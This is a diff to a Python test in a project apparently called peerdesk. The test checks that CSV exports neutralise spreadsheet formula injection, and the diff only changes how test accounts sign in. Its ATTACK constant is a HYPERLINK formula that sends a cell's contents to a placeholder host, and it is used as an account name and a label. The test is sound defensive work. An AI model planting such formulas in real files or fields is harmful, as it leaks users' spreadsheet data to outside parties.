@@ -11,6 +11,7 @@ from pathlib import Path
 from peerdesk import exports
 from peerdesk.domain import Kind
 from peerdesk.services import Desk, Vault, fidelity, governance, resources
+from peerdesk.services.desk import sign_in
 from tests.conftest import PASSPHRASE
 
 ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Open")'
@@ -29,8 +30,8 @@ def _neutralised(text: str) -> None:
 def test_hyperlink_is_neutralised_in_every_csv_export(vault: Vault, tmp_path: Path) -> None:
     vault.create_account("Grace", "coordinator", PASSPHRASE)
     vault.create_account(ATTACK, "peer", PASSPHRASE)  # a name is text like any other
-    grace = vault.unlock("Grace", PASSPHRASE)
-    peer: Desk = vault.unlock(ATTACK, PASSPHRASE)
+    grace = sign_in(vault, "Grace", PASSPHRASE)
+    peer: Desk = sign_in(vault, ATTACK, PASSPHRASE)
     person = peer.add(Kind.PERSON, {"label": ATTACK})
     peer.add(Kind.DIARY, {"when": "2026-07-14T10:00", "contact_type": "first_ward_contact"},
              person_id=person.id)
